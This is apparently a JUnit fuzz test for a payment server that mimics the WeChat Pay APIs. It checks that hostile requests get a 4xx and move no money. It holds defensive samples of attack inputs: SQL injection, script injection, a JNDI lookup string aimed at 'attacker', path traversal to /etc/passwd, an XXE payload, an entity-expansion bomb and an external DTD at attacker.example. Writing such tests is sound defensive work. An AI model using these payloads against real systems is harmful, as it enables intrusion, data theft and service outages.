package io.lingqian.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.annotation.Import;
import org.springframework.http.HttpHeaders;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import org.springframework.test.web.servlet.request.MockMvcRequestBuilders;

import io.lingqian.credentials.MerchantCertificate;
import io.lingqian.credentials.MerchantCredentials;
import io.lingqian.credentials.TestKeys;
import io.lingqian.credentials.TestMerchants;
import io.lingqian.merchant.AppKind;
import io.lingqian.merchant.MerchantApps;
import io.lingqian.staff.StaffRole;
import io.lingqian.staff.StaffUser;
import io.lingqian.testing.ServerTest;
import io.lingqian.testing.TestUsers;
import io.lingqian.wallet.TestPayers;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * Hostile input against every protocol, seeded ({@code -Dfuzz.seed}, {@code -Dfuzz.inputs} per
 * target): malformed and truncated bodies, wrong types, huge, negative and overflowing numbers, deep
 * nesting, oversized bodies, invalid UTF-8, 4-byte characters, SQL and script injection in every
 * text field, path traversal, XML entities, and missing, expired, replayed, tampered or another
 * merchant's signatures. Each answer must be a 4xx in the caller's protocol (WeChat's
 * {@code {"code","message"}} on /v3, XML {@code return_code FAIL} on v2, problem+json on the wallet
 * and admin APIs), never a 5xx, and the money tables must be exactly as before.
 */
@ServerTest
@Import(CommitFaults.Config.class)
class FuzzTests {

    private static final Logger log = LoggerFactory.getLogger(FuzzTests.class);
    private static final String SCHEME = "WECHATPAY2-SHA256-RSA2048";
    static final List<String> HOSTILE_TEXT = List.of("' OR '1'='1", "'; DROP TABLE payment_order; --",
            "\"; DELETE FROM ledger_transfer; --", "<script>alert(1)</script>", "${jndi:ldap://attacker/x}",
            "../../../../etc/passwd", "%00", "\u0000", "😀𠜎", "\uD83D", "a".repeat(100_000), "{{7*7}}", "\\u0000");
    private static int inputsTried;

    @Autowired MockMvc mvc;
    @Autowired JsonMapper json;
    @Autowired JdbcClient jdbc;
    @Autowired TestMerchants merchants;
    @Autowired MerchantCredentials credentials;
    @Autowired MerchantApps apps;
    @Autowired TestPayers payers;
    @Autowired TestUsers users;

    Random random;
    int budget;
    Merchant merchant;
    Merchant otherMerchant;
    String appid;

    /** A merchant with API credentials: the private key of its certificate signs requests. */
    record Merchant(long id, String mchid, String serial, String privateKeyPem) {
    }

    @BeforeEach
    void setUp() {
        random = new Random(Long.getLong("fuzz.seed", 7));
        budget = Integer.getInteger("fuzz.inputs", 60);
        merchant = merchantWithKeys();
        otherMerchant = merchantWithKeys();
        appid = apps.register(merchant.id(), AppKind.OFFICIAL_ACCOUNT, "Fuzz shop", List.of()).app().appid();
    }

    @AfterAll
    static void report() {
        log.info("Fuzzing tried {} hostile inputs", inputsTried);
    }

    private Merchant merchantWithKeys() {
        TestMerchants.ApprovedMerchant m = merchants.approved();
        credentials.setApiV3Key(m.id(), MerchantCredentials.suggestApiV3Key());
        MerchantCertificate certificate = credentials.generate(m.id());
        return new Merchant(m.id(), m.mchid(), certificate.serialNo(),
                credentials.takePrivateKey(m.id(), certificate.id()).orElseThrow());
    }

    // --- the money snapshot -------------------------------------------------------------------------

    /** Everything money: the ledger's totals and rows, and the rows of every money-moving object. */
    private List<Object> snapshot() {
        List<Object> values = new ArrayList<>();
        values.add(jdbc.sql("SELECT COUNT(*) FROM ledger_transfer").query(Long.class).single());
        values.add(jdbc.sql("SELECT COALESCE(SUM(debits_posted), 0) + COALESCE(SUM(credits_pending), 0) * 3 "
                + "+ COALESCE(SUM(debits_pending), 0) * 7 FROM ledger_account").query(Long.class).single());
        for (String table : List.of("payment_order", "payment_refund", "wallet_topup", "wallet_withdrawal",
                "social_transfer", "social_red_packet", "wallet_card_charge")) {
            values.add(table + "=" + jdbc.sql("SELECT COUNT(*) FROM " + table).query(Long.class).single());
        }
        return values;
    }

    // --- mutations ----------------------------------------------------------------------------------

    /** One hostile variant of a valid JSON body. */
    private byte[] mutate(String valid) {
        byte[] bytes = valid.getBytes(StandardCharsets.UTF_8);
        return switch (random.nextInt(9)) {
            case 0 -> java.util.Arrays.copyOf(bytes, random.nextInt(bytes.length));
            case 1 -> {
                byte[] flipped = bytes.clone();
                for (int i = 0; i < 1 + random.nextInt(4); i++) {
                    flipped[random.nextInt(flipped.length)] = (byte) random.nextInt(256);
                }
                yield flipped;
            }
            case 2 -> retype(valid).getBytes(StandardCharsets.UTF_8);
            case 3 -> number(valid).getBytes(StandardCharsets.UTF_8);
            case 4 -> ("[".repeat(2_000 + random.nextInt(20_000)) + "]".repeat(random.nextInt(3))).getBytes(
                    StandardCharsets.UTF_8);
            case 5 -> {
                byte[] invalid = new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE, (byte) 0xED,
                        (byte) 0xA0, (byte) 0x80};
                String text = valid.substring(0, valid.length() / 2);
                byte[] out = new byte[text.getBytes(StandardCharsets.UTF_8).length + invalid.length];
                System.arraycopy(text.getBytes(StandardCharsets.UTF_8), 0, out, 0, out.length - invalid.length);
                System.arraycopy(invalid, 0, out, out.length - invalid.length, invalid.length);
                yield out;
            }
            case 6 -> ("{\"pad\":\"" + "x".repeat(2_000_000) + "\"}").getBytes(StandardCharsets.UTF_8);
            case 7 -> List.of("", "null", "[]", "\"text\"", "{", "}", "{\"a\":}", "0", "true")
                    .get(random.nextInt(9)).getBytes(StandardCharsets.UTF_8);
            default -> dropField(valid).getBytes(StandardCharsets.UTF_8);
        };
    }

    /** Every text field (one at a time) holding a hostile string: the request may be accepted or refused. */
    private List<String> injections(String valid) {
        List<String> bodies = new ArrayList<>();
        List<List<String>> paths = textFields(json.readTree(valid), new ArrayList<>(), new ArrayList<>());
        for (List<String> path : paths) {
            for (String text : HOSTILE_TEXT) {
                JsonNode copy = json.readTree(valid);
                set(copy, path, json.getNodeFactory().textNode(text));
                bodies.add(json.writeValueAsString(copy));
            }
        }
        return bodies;
    }

    private List<List<String>> textFields(JsonNode node, List<String> at, List<List<String>> found) {
        if (node.isString()) {
            found.add(List.copyOf(at));
        } else if (node.isObject()) {
            for (String name : node.propertyNames()) {
                at.add(name);
                textFields(node.get(name), at, found);
                at.remove(at.size() - 1);
            }
        }
        return found;
    }

    private List<List<String>> leaves(JsonNode node, List<String> at, List<List<String>> found) {
        if (node.isObject()) {
            for (String name : node.propertyNames()) {
                at.add(name);
                found.add(List.copyOf(at));
                leaves(node.get(name), at, found);
                at.remove(at.size() - 1);
            }
        }
        return found;
    }

    private static void set(JsonNode root, List<String> path, JsonNode value) {
        JsonNode parent = root;
        for (int i = 0; i < path.size() - 1; i++) {
            parent = parent.get(path.get(i));
        }
        ((ObjectNode) parent).set(path.get(path.size() - 1), value);
    }

    private String retype(String valid) {
        JsonNode root = json.readTree(valid);
        List<List<String>> all = leaves(root, new ArrayList<>(), new ArrayList<>());
        List<String> path = all.get(random.nextInt(all.size()));
        JsonNode current = root;
        for (String name : path) {
            current = current.get(name);
        }
        ArrayNode array = json.getNodeFactory().arrayNode().add(1).add("x");
        // A value of another kind than the field's: never one a lenient parser could read as the same.
        List<JsonNode> wrong = new ArrayList<>(List.of(array));
        if (path.size() == 1) {
            // Every top-level field of the templates is required; a nested null may mean "absent" (currency).
            wrong.add(json.getNodeFactory().nullNode());
        }
        if (!current.isObject()) {
            wrong.add(json.getNodeFactory().objectNode().put("nested", "x"));
        }
        if (current.isNumber()) {
            wrong.add(json.getNodeFactory().textNode("forty-two"));
            wrong.add(json.getNodeFactory().booleanNode(true));
        }
        if (current.isObject()) {
            wrong.add(json.getNodeFactory().numberNode(42));
            wrong.add(json.getNodeFactory().textNode("42"));
        }
        set(root, path, wrong.get(random.nextInt(wrong.size())));
        return json.writeValueAsString(root);
    }

    private String number(String valid) {
        String[] numbers = {"-1", "0", "9223372036854775807", "9223372036854775808", "-9223372036854775808",
                "2147483648", "1e309", "1.5", "-0", "99999999999999999999999999999", "NaN"};
        String n = numbers[random.nextInt(numbers.length)];
        return valid.replaceFirst("\"total\":\\d+", "\"total\":" + n).replaceFirst("\"refund\":\\d+", "\"refund\":" + n)
                .replaceFirst("\"amountFen\":\\d+", "\"amountFen\":" + n);
    }

    private String dropField(String valid) {
        JsonNode root = json.readTree(valid);
        Iterator<String> names = root.propertyNames().iterator();
        List<String> all = new ArrayList<>();
        names.forEachRemaining(all::add);
        ((ObjectNode) root).remove(all.get(random.nextInt(all.size())));
        return json.writeValueAsString(root);
    }

    // --- v3 --------------------------------------------------------------------------------------

    private String authorization(Merchant signer, String mchid, String method, String target, byte[] body, long ts,
            String nonce) {
        String message = method + "\n" + target + "\n" + ts + "\n" + nonce + "\n"
                + new String(body, StandardCharsets.UTF_8) + "\n";
        String sig = TestKeys.sign(TestKeys.privateKey(signer.privateKeyPem()), message.getBytes(StandardCharsets.UTF_8));
        return SCHEME + " mchid=\"" + mchid + "\",nonce_str=\"" + nonce + "\",timestamp=\"" + ts + "\",serial_no=\""
                + signer.serial() + "\",signature=\"" + sig + "\"";
    }

    private MockHttpServletResponse v3(String method, String target, byte[] body, String authorization) throws Exception {
        MockHttpServletRequestBuilder request = MockMvcRequestBuilders.request(
                org.springframework.http.HttpMethod.valueOf(method), java.net.URI.create(target))
                .contentType(MediaType.APPLICATION_JSON).accept(MediaType.APPLICATION_JSON).content(body);
        if (authorization != null) {
            request.header(HttpHeaders.AUTHORIZATION, authorization);
        }
        return mvc.perform(request).andReturn().getResponse();
    }

    private MockHttpServletResponse signedV3(String method, String target, byte[] body) throws Exception {
        return v3(method, target, body, authorization(merchant, merchant.mchid(), method, target, body,
                Instant.now().getEpochSecond(), nonce()));
    }

    private static String head(byte[] body) {
        return new String(body, 0, Math.min(body.length, 300), StandardCharsets.UTF_8);
    }

    private static String nonce() {
        return UUID.randomUUID().toString().replace("-", "");
    }

    private void assertV3Refused(MockHttpServletResponse response, String what) throws Exception {
        inputsTried++;
        assertThat(response.getStatus()).as(what + ": " + response.getContentAsString()).isBetween(400, 499);
        JsonNode body = json.readTree(response.getContentAsString(StandardCharsets.UTF_8));
        assertThat(body.has("code") && body.has("message")).as(what + " answers {code, message}: " + body).isTrue();
    }

    private void assertNot5xx(MockHttpServletResponse response, String what) throws Exception {
        inputsTried++;
        assertThat(response.getStatus()).as(what + ": " + response.getContentAsString()).isLessThan(500);
    }

    private String prepayBody() {
        return "{\"appid\":\"" + appid + "\",\"mchid\":\"" + merchant.mchid() + "\",\"description\":\"Fuzz\","
                + "\"out_trade_no\":\"fz" + UUID.randomUUID().toString().replace("-", "").substring(0, 20) + "\","
                + "\"notify_url\":\"https://shop.example.cn/notify\",\"amount\":{\"total\":100,\"currency\":\"CNY\"}}";
    }

    private String refundBody() {
        return "{\"out_trade_no\":\"fz-no-such-order\",\"out_refund_no\":\"fzr" + random.nextInt(1_000_000) + "\","
                + "\"reason\":\"fuzz\",\"amount\":{\"refund\":100,\"total\":100,\"currency\":\"CNY\"}}";
    }

    @Test
    void malformedV3BodiesAreRefusedInWechatFormatAndMoveNothing() throws Exception {
        List<Object> before = snapshot();
        for (int i = 0; i < budget; i++) {
            byte[] prepay = mutate(prepayBody());
            assertV3Refused(signedV3("POST", "/v3/pay/transactions/native", prepay), "prepay #" + i + " " + head(prepay));
            byte[] refund = mutate(refundBody());
            assertV3Refused(signedV3("POST", "/v3/refund/domestic/refunds", refund), "refund #" + i + " " + head(refund));
        }
        assertThat(snapshot()).isEqualTo(before);
    }

    @Test
    void hostileTextInEveryV3FieldIsStoredAsTextOrRefusedNeverA5xx() throws Exception {
        List<Object> ledgerBefore = snapshot().subList(0, 2);
        for (String body : injections(prepayBody())) {
            assertNot5xx(signedV3("POST", "/v3/pay/transactions/native", body.getBytes(StandardCharsets.UTF_8)),
                    "prepay " + body.substring(0, Math.min(200, body.length())));
        }
        for (String body : injections(refundBody())) {
            assertNot5xx(signedV3("POST", "/v3/refund/domestic/refunds", body.getBytes(StandardCharsets.UTF_8)),
                    "refund " + body.substring(0, Math.min(200, body.length())));
        }
        for (String text : HOSTILE_TEXT) {
            String q = java.net.URLEncoder.encode(text.length() > 2000 ? text.substring(0, 2000) : text,
                    StandardCharsets.UTF_8);
            for (String target : List.of("/v3/bill/tradebill?bill_date=" + q, "/v3/bill/fundflowbill?bill_date=" + q,
                    "/v3/billdownload/file?token=" + q, "/v3/pay/transactions/out-trade-no/" + q + "?mchid="
                            + merchant.mchid(), "/v3/refund/domestic/refunds/" + q)) {
                assertNot5xx(signedV3("GET", target, new byte[0]), "GET " + target);
            }
        }
        assertThat(snapshot().subList(0, 2)).as("no money moved").isEqualTo(ledgerBefore);
    }

    @Test
    void aNulCharacterInAV3TextFieldIsAParamErrorNotA500OnPostgresql() throws Exception {
        // Found by this fuzzer on PostgreSQL, which cannot store U+0000 in text (H2 can, and stored it).
        List<Object> before = snapshot();
        String prepay = prepayBody().replace("\"description\":\"Fuzz\"", "\"description\":\"Fu\\u0000zz\"");
        MockHttpServletResponse response = signedV3("POST", "/v3/pay/transactions/native",
                prepay.getBytes(StandardCharsets.UTF_8));
        assertV3Refused(response, "NUL in description");
        assertThat(json.readTree(response.getContentAsString()).get("code").asString()).isEqualTo("PARAM_ERROR");
        String refund = refundBody().replace("\"reason\":\"fuzz\"", "\"reason\":\"\\u0000\"");
        assertV3Refused(signedV3("POST", "/v3/refund/domestic/refunds", refund.getBytes(StandardCharsets.UTF_8)),
                "NUL in reason");
        assertThat(snapshot()).isEqualTo(before);
    }

    @Test
    void pathTraversalInTheBillDownloadIsRefused() throws Exception {
        for (String token : List.of("../../../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "%2e%2e/%2e%2e/etc/passwd",
                "/etc/passwd", "....//....//etc/passwd", "C:\\windows\\win.ini", "token\u0000.txt")) {
            MockHttpServletResponse response = signedV3("GET", "/v3/billdownload/file?token="
                    + java.net.URLEncoder.encode(token, StandardCharsets.UTF_8), new byte[0]);
            assertV3Refused(response, "download " + token);
            assertThat(response.getContentAsString()).doesNotContain("root:");
        }
    }

    @Test
    void missingExpiredReplayedTamperedAndForeignSignaturesAreRefused() throws Exception {
        List<Object> before = snapshot();
        String target = "/v3/pay/transactions/native";
        byte[] body = prepayBody().getBytes(StandardCharsets.UTF_8);
        long now = Instant.now().getEpochSecond();

        assertV3Refused(v3("POST", target, body, null), "no signature");
        assertV3Refused(v3("POST", target, body, "Bearer x"), "another scheme");
        assertV3Refused(v3("POST", target, body, SCHEME + " garbage"), "malformed header");
        assertV3Refused(v3("POST", target, body, authorization(merchant, merchant.mchid(), "POST", target, body,
                now - 3_600, nonce())), "an hour old");
        assertV3Refused(v3("POST", target, body, authorization(merchant, merchant.mchid(), "POST", target, body,
                now + 3_600, nonce())), "an hour ahead");
        String replayed = authorization(merchant, merchant.mchid(), "POST", target, body, now, nonce());
        MockHttpServletResponse first = v3("POST", target, body, replayed);
        assertThat(first.getStatus()).as(first.getContentAsString()).isEqualTo(200);
        before = snapshot();
        assertV3Refused(v3("POST", target, body, replayed), "a replayed nonce");
        byte[] tampered = new String(body, StandardCharsets.UTF_8).replace("\"total\":100", "\"total\":1")
                .getBytes(StandardCharsets.UTF_8);
        assertV3Refused(v3("POST", target, tampered, authorization(merchant, merchant.mchid(), "POST", target, body,
                now, nonce())), "a tampered body");
        String forged = authorization(merchant, merchant.mchid(), "POST", target, body, now, nonce());
        assertV3Refused(v3("POST", target, body, forged.replaceAll("signature=\"[^\"]{8}", "signature=\"AAAAAAAA")),
                "a tampered signature");
        // Another merchant's valid signature (its own key and serial) claiming this merchant's mchid.
        assertV3Refused(v3("POST", target, body, authorization(otherMerchant, merchant.mchid(), "POST", target, body,
                now, nonce())), "another merchant's signature");
        assertV3Refused(v3("POST", target, body, authorization(merchant, otherMerchant.mchid(), "POST", target, body,
                now, nonce())), "this merchant's signature for another mchid");
        assertThat(snapshot()).isEqualTo(before);
    }

    // --- v2 XML -----------------------------------------------------------------------------------

    @Test
    void hostileXmlOnV2IsRefusedWithoutExpandingEntities() throws Exception {
        List<Object> before = snapshot();
        String micropay = "<xml><appid>" + appid + "</appid><mch_id>" + merchant.mchid() + "</mch_id><nonce_str>n</nonce_str>"
                + "<sign>00</sign><body>x</body><out_trade_no>fz1</out_trade_no><total_fee>1</total_fee>"
                + "<spbill_create_ip>127.0.0.1</spbill_create_ip><auth_code>134567890123456789</auth_code></xml>";
        List<String> bodies = new ArrayList<>(List.of(
                "<?xml version=\"1.0\"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><xml><body>&xxe;</body></xml>",
                "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
                        + "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]><xml><body>&lol3;</body></xml>",
                "<!DOCTYPE xml [<!ENTITY % ext SYSTEM \"http://attacker.example/x.dtd\"> %ext;]><xml/>",
                "", "<xml>", "not xml", "<xml><a><b></a></b></xml>", "<xml>" + "<a>".repeat(5_000) + "</xml>",
                "<xml><total_fee>-1</total_fee></xml>", "<xml><total_fee>99999999999999999999</total_fee></xml>"));
        for (int i = 0; i < budget; i++) {
            bodies.add(new String(mutateXml(micropay), StandardCharsets.UTF_8));
        }
        for (String text : HOSTILE_TEXT) {
            bodies.add(micropay.replace("<body>x</body>", "<body><![CDATA[" + text + "]]></body>"));
        }
        for (String body : bodies) {
            for (String target : List.of("/pay/micropay", "/pay/orderquery", "/secapi/pay/reverse")) {
                MockHttpServletResponse response = mvc.perform(MockMvcRequestBuilders.post(target)
                        .contentType(MediaType.TEXT_XML).content(body.getBytes(StandardCharsets.UTF_8)))
                        .andReturn().getResponse();
                inputsTried++;
                String answer = response.getContentAsString(StandardCharsets.UTF_8);
                assertThat(response.getStatus()).as(target + " " + body.substring(0, Math.min(120, body.length())))
                        .isLessThan(500);
                assertThat(answer).as("v2 answers in XML").contains("<return_code>").doesNotContain("root:")
                        .doesNotContain("lollollol");
                assertThat(answer).as("a refusal").containsAnyOf("<return_code><![CDATA[FAIL]]>",
                        "<result_code><![CDATA[FAIL]]>", "<return_code>FAIL");
            }
        }
        assertThat(snapshot()).isEqualTo(before);
    }

    private byte[] mutateXml(String valid) {
        byte[] bytes = valid.getBytes(StandardCharsets.UTF_8);
        if (random.nextBoolean()) {
            return java.util.Arrays.copyOf(bytes, random.nextInt(bytes.length));
        }
        byte[] flipped = bytes.clone();
        flipped[random.nextInt(flipped.length)] = (byte) random.nextInt(256);
        return flipped;
    }

    // --- the wallet and admin APIs (problem+json) ----------------------------------------------------

    private void assertProblem(MockHttpServletResponse response, String what) throws Exception {
        inputsTried++;
        assertThat(response.getStatus()).as(what + ": " + response.getContentAsString()).isBetween(400, 499);
        assertThat(response.getContentType()).as(what).startsWith("application/problem+json");
        assertThat(json.readTree(response.getContentAsString(StandardCharsets.UTF_8)).has("code")).isTrue();
    }

    @Test
    void malformedWalletApiBodiesAreProblemsAndMoveNothing() throws Exception {
        TestPayers.Payer payer = payers.withBalance(100_00);
        String device = payer.deviceId();
        MockHttpServletResponse session = mvc.perform(MockMvcRequestBuilders.post("/api/wallet/sessions")
                .contentType(MediaType.APPLICATION_JSON).content(json.writeValueAsString(Map.of("mobile",
                        payer.user().mobile(), "password", TestUsers.PASSWORD, "deviceId", device, "deviceName", "Fuzz"))))
                .andReturn().getResponse();
        assertThat(session.getStatus()).as(session.getContentAsString()).isEqualTo(201);
        String token = json.readTree(session.getContentAsString()).get("token").asString();
        Map<String, String> templates = Map.of(
                "/api/wallet/topups", "{\"cardId\":999999999,\"amountFen\":100,\"clientRequestId\":\"fz-1\"}",
                "/api/wallet/withdrawals", "{\"cardId\":999999999,\"amountFen\":100,\"clientRequestId\":\"fz-2\",\"paymentPassword\":\"284619\"}",
                "/api/wallet/transfers", "{\"receiverId\":999999999,\"amountFen\":100,\"clientRequestId\":\"fz-3\",\"paymentPassword\":\"284619\"}",
                "/api/wallet/red-packets", "{\"kind\":\"LUCKY\",\"groupId\":999999999,\"amountFen\":100,\"shares\":2,\"clientRequestId\":\"fz-4\",\"paymentPassword\":\"284619\"}",
                "/api/wallet/cashier/scan", "{\"codeUrl\":\"weixin://wxpay/bizpayurl?pr=abc\"}");
        List<Object> before = snapshot();
        for (Map.Entry<String, String> t : templates.entrySet()) {
            for (int i = 0; i < budget / 2; i++) {
                byte[] body = mutate(t.getValue());
                assertProblem(mvc.perform(MockMvcRequestBuilders.post(t.getKey()).header(HttpHeaders.AUTHORIZATION,
                        "Bearer " + token).contentType(MediaType.APPLICATION_JSON).content(body)).andReturn().getResponse(),
                        t.getKey() + " #" + i + " " + new String(body, 0, Math.min(body.length, 120), StandardCharsets.UTF_8));
            }
            for (String body : injections(t.getValue())) {
                MockHttpServletResponse response = mvc.perform(MockMvcRequestBuilders.post(t.getKey())
                        .header(HttpHeaders.AUTHORIZATION, "Bearer " + token).contentType(MediaType.APPLICATION_JSON)
                        .content(body)).andReturn().getResponse();
                assertNot5xx(response, t.getKey() + " " + body.substring(0, Math.min(150, body.length())));
            }
        }
        assertThat(snapshot()).isEqualTo(before);
    }

    @Test
    void malformedAdminApiInputIsAProblemNeverA5xx() throws Exception {
        StaffUser admin = users.staff(StaffRole.ADMIN);
        String basic = "Basic " + Base64.getEncoder().encodeToString((admin.username() + ":" + TestUsers.PASSWORD)
                .getBytes(StandardCharsets.UTF_8));
        List<Object> before = snapshot();
        for (String text : HOSTILE_TEXT) {
            String q = java.net.URLEncoder.encode(text.length() > 2000 ? text.substring(0, 2000) : text,
                    StandardCharsets.UTF_8);
            for (String target : List.of("/admin/api/stats/volume?from=" + q, "/admin/api/stats/money?from=" + q + "&to=" + q,
                    "/admin/api/reconciliation/" + q + "/2026-01-01", "/admin/api/reconciliation/ICBC/" + q)) {
                MockHttpServletResponse response = mvc.perform(MockMvcRequestBuilders.get(java.net.URI.create(target))
                        .header(HttpHeaders.AUTHORIZATION, basic)).andReturn().getResponse();
                assertNot5xx(response, "GET " + target);
            }
        }
        for (int i = 0; i < budget / 2; i++) {
            byte[] body = mutate("{\"note\":\"checked\",\"resolution\":\"BANK_ERROR\"}");
            MockHttpServletResponse response = mvc.perform(MockMvcRequestBuilders.post(
                    "/admin/api/reconciliation/items/" + (1 + random.nextInt(1000)) + "/resolve")
                    .header(HttpHeaders.AUTHORIZATION, basic).contentType(MediaType.APPLICATION_JSON).content(body))
                    .andReturn().getResponse();
            assertProblem(response, "resolve #" + i);
        }
        assertThat(snapshot()).isEqualTo(before);
    }
}
